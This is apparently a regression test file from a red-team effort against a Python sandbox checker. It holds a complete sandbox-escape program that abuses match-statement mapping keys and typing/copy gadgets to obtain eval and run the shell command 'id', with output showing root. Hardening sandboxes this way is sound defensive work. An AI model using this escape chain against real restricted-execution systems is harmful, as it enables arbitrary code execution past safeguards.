# expect: reject match
# line: 32
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family A: a dotted value pattern or mapping-pattern key whose root is no import (a star-imported name, a program subclass of a library class, cls, an alias, a for target) hands a library method, class or container to the subject's __eq__ or get (the red team's program)
# Mechanism: rule module_value's 13d fix for match patterns refuses a dotted value pattern / mapping 
# key only when its ROOT is bound by an import (wk_bound_module/wk_bound_value) or a part is 
# class-holding. A name bound by a star import ('from collections import *' binds Counter under no 
# recorded binding) is neither, so 'case {Counter.copy: _}' hands the library method Counter.copy as 
# a plain function to the program dict subclass's get(), which raises LookupError(k); e.args[0] is 
# Counter.copy by value.
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias 
# + copy.deepcopy, the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
from collections import *
import copy
import typing

class P:
    pass

class Grab(dict):
    def get(self, k, d=None):
        raise LookupError(k)

try:
    match Grab(a=1):
        case {Counter.copy: _}:
            pass
except Exception as e:
    f = e.args[0]
print("by value:", f)
T = f(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
